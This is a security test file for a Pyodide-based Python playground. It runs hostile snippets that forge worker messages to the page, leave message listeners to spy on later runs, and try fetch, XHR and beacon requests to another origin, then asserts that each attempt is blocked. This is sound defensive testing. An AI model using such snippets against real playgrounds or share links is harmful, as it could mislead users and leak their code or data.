"""A snippet must not reach past its run: attacks from Python in the worker on the page, on later
runs and on other origins, each performed here and shown to fail (test_fresh.py has the attacks
on later runs and visits through the interpreter itself).

Python reaches the worker's JavaScript global scope through Pyodide's `js` module (a proxy of
it; SCOPE below unwraps the real one); these tests use exactly that, as a hostile snippet, or one
from someone else's share link, would.
"""

from __future__ import annotations

import os
import re
import threading
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page, expect

import build

SITE_DIR = Path(os.environ.get("AD_SITE_DIR") or build.SITE_DIR)  # as conftest.py serves it


# The worker's real global scope: `js` is a proxy that native methods refuse as `this`.
SCOPE = ("import js\n"
         "scope = js.Object.getOwnPropertyDescriptor(js.globalThis, 'globalThis').value\n")


def api_run(page: Page, code: str, timeout_ms: int | None = None) -> dict:
    return page.evaluate("([code, timeoutMs]) => window.adPlayground.run(code, { timeoutMs })",
                         [code, timeout_ms])


def ready(page: Page) -> dict:
    page.wait_for_function("window.adPlayground !== undefined")
    return page.evaluate("() => window.adPlayground.ready")


FORGE = SCOPE + """\
from pyodide.ffi import to_js

def post(message):
    scope.postMessage(to_js(message, dict_converter=js.Object.fromEntries))

post({"type": "boot-error", "message": "pwned: the runtime is broken, reload"})
post({"type": "ready", "versions": {"ad": "evil 6.6.6"}, "bootMs": 1})
post({"type": "stage", "stage": "numpy", "state": "start"})
for run_id in range(1, 200):
    post({"type": "output", "id": run_id, "chunks": [{"stream": "stdout", "text": "FORGED\\n"}]})
    post({"type": "done", "id": run_id, "durationMs": 0, "error": None, "dropped": 0,
          "uses": None})
print("tried to forge")
"""


def test_a_snippet_cannot_forge_messages_to_the_page(booted):
    page = booted.page
    booted.run("print('before')\n")
    before = page.evaluate("() => window.adPlayground.status()")["versions"]
    assert set(before) >= {"pyodide", "python", "numpy", "ad"}, before
    booted.run(FORGE)
    expect(booted.output).to_have_text("tried to forge\n")
    runtime = page.get_by_role("status", name="Python runtime")
    expect(runtime).to_contain_text("Python ready")
    expect(runtime).not_to_contain_text("pwned")
    expect(page.get_by_role("alert")).to_have_count(0)
    expect(booted.output).not_to_contain_text("FORGED")
    status = page.evaluate("() => window.adPlayground.status()")
    assert status["versions"] == before and status["phase"] == "ready"
    # The next run's interpreter boots as it should: its stages are its own, not the forged.
    page.wait_for_function("() => window.adPlayground.status().standby === 'ready'")
    status = page.evaluate("() => window.adPlayground.status()")
    assert all(state == "done" for state in status["stages"].values())
    # The page and the worker are still in step: runs answer in order, with their own output.
    for i in range(3):
        result = api_run(page, f"print('run {i}')")
        assert result["ok"] and result["stdout"] == f"run {i}\n", result


def test_a_listener_a_snippet_leaves_behind_never_sees_later_runs(booted):
    booted.run(SCOPE + "from pyodide.ffi import create_proxy\n"
               "scope.spied = js.Array.new()\n"
               "def spy(event):\n"
               "    scope.spied.push(js.JSON.stringify(event.data))\n"
               "scope.addEventListener('message', create_proxy(spy))\n"
               "scope.onmessage = create_proxy(spy)\n"
               "print('listening')\n")
    booted.run("secret = 'hunter2'\nprint('a later run')\n")
    expect(booted.output).to_have_text("a later run\n")
    booted.run(SCOPE + "print('spied', js.Reflect.has(scope, 'spied'))\n")
    expect(booted.output).to_have_text("spied False\n")  # nor the worker it listened in


@pytest.fixture
def plain_site(tmp_path, site_url: str):
    """The site on a host that sends no headers at all (no CSP, no COOP/COEP), and another local
    origin that logs every request it gets."""
    servers = []
    target_log = tmp_path / "other-origin.log"
    (tmp_path / "secret.txt").write_text("reachable")
    base_path = urlsplit(site_url).path
    with open(target_log, "w") as log_file:
        site = build.make_server(SITE_DIR, "127.0.0.1", 0, base_path, log_file=None,
                                 policy_headers=False)
        other = build.make_server(tmp_path, "127.0.0.1", 0, log_file=log_file)
        for server in (site, other):
            threading.Thread(target=server.serve_forever, daemon=True).start()
            servers.append(server)
        try:
            yield (f"http://127.0.0.1:{site.server_address[1]}{base_path}",
                   f"http://127.0.0.1:{other.server_address[1]}/secret.txt", target_log)
        finally:
            for server in servers:
                server.shutdown()
                server.server_close()


EXFILTRATE = SCOPE + """\
tried = []
for how in ("fetch", "xhr", "beacon"):
    try:
        if how == "fetch":
            await scope.fetch(TARGET + "?via=fetch")
        elif how == "xhr":
            request = js.XMLHttpRequest.new()
            request.open("GET", TARGET + "?via=xhr", False)
            request.send()
        elif how == "beacon":
            if not scope.navigator.sendBeacon(TARGET + "?via=beacon", "code"):
                raise RuntimeError("refused")
        tried.append(how + ": reached")
    except Exception:
        tried.append(how + ": blocked")
print(*tried, sep="\\n")
"""


def test_on_a_host_without_headers_a_snippet_cannot_reach_another_origin(
        page: Page, ui, page_guard, plain_site):
    site_url, target, target_log = plain_site
    page_guard.origin = "{0.scheme}://{0.netloc}".format(urlsplit(site_url))
    page.goto(site_url)
    ready(page)
    assert page.evaluate("crossOriginIsolated") is False  # no headers: not isolated either
    result = api_run(page, f"TARGET = {target!r}\n" + EXFILTRATE)
    assert result["ok"], result["error"]
    assert result["stdout"].count(": blocked") == 3, result["stdout"]
    assert target_log.read_text() == "", "a request reached the other origin"
    # The page's own policy stopped them, in the worker that inherited it. The browser lists the
    # synchronous request it refused as an attempt; that and nothing else is on the record.
    assert all(target in p or p.startswith("CSP violation") for p in page_guard.problems), \
        page_guard.problems
    page_guard.problems.clear()


LINK_CODE = SCOPE + """\
from pyodide.ffi import create_proxy
scope.linkWasHere = True
scope.addEventListener('message', create_proxy(lambda e: print('spied', e.data)))
print('link code ran')
"""


def test_code_from_a_link_runs_in_a_worker_that_is_gone_before_own_code_runs(
        page: Page, ui, site_url: str):
    page.goto(site_url)
    ui.type_code("print('my own code')\n")
    page.wait_for_function("() => localStorage.getItem('ad-playground:draft') !== null")
    link = page.evaluate("code => { window.adPlayground.setCode(code); "
                         "return window.adPlayground.shareLink(); }", LINK_CODE)
    page.goto("about:blank")
    page.goto(link)
    expect(page.get_by_role("status").filter(has_text="shared link")).to_be_visible()
    ui.run()
    expect(ui.output).to_have_text("link code ran\n")
    # The link's code runs again (edited or not) in its own worker...
    ui.run()
    expect(ui.output).to_have_text("link code ran\n")
    # ...but the user's own code never runs where it ran.
    page.get_by_role("button", name="Restore my draft").click()
    assert page.evaluate("() => window.adPlayground.getCode()") == "print('my own code')\n"
    ui.run(SCOPE + "print('marker', js.Reflect.has(scope, 'linkWasHere'))\n")
    expect(ui.output).to_have_text("marker False\n")


def test_a_worker_closed_by_a_snippet_is_noticed_and_replaced(booted):
    booted.run(SCOPE + "print('closing')\nscope.close()\n",
               re.compile(r"^(Python crashed and was restarted|Finished) after"))
    booted.run("print('a fresh worker answers')\n")
    expect(booted.output).to_have_text("a fresh worker answers\n")
